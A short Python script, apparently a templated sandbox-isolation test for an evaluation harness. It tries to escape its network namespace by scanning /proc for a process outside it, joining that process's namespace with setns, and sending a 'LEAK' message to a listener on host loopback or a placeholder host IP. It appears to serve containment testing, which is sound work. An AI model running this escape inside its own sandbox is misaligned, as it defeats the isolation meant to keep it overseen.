# Attack: the sandbox has a network namespace of its own; the grader's is one /proc/PID/ns/net
# away. Find any process outside our namespace and join its network (setns), then reach a
# listener on the host's loopback.
import ctypes
import os
import socket

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000
mine = os.readlink("/proc/self/ns/net")
joined = []
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        if os.readlink(f"/proc/{pid}/ns/net") == mine:
            continue
        fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(fd, CLONE_NEWNET) == 0:
        joined.append(pid)
        break
for host in ("127.0.0.1", "{{HOST_IP}}"):
    try:
        with socket.create_connection((host, {{PORT}}), timeout=2) as s:
            s.sendall(b"LEAK through a joined namespace")
            raise SystemError(f"reached {host} after joining {joined}")
    except OSError as exc:
        print(host, exc)
raise ConnectionError(f"no network (joined {joined})")
